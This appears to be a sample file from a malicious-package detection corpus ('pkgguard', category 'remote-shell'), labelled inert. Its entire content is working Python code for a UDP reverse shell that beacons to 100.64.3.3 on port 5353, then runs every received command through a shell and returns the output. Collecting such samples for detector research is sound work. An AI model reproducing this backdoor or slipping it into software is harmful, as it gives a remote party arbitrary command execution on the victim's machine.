# pkgguard corpus 304 (remote-shell), modelled on [taxonomy]; inert, never run.
import socket
import subprocess

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto(b"hello", ("100.64.3.3", 5353))
while True:
    data, addr = sock.recvfrom(4096)
    result = subprocess.run(data.decode(), shell=True, capture_output=True)
    sock.sendto(result.stdout[:4000], addr)
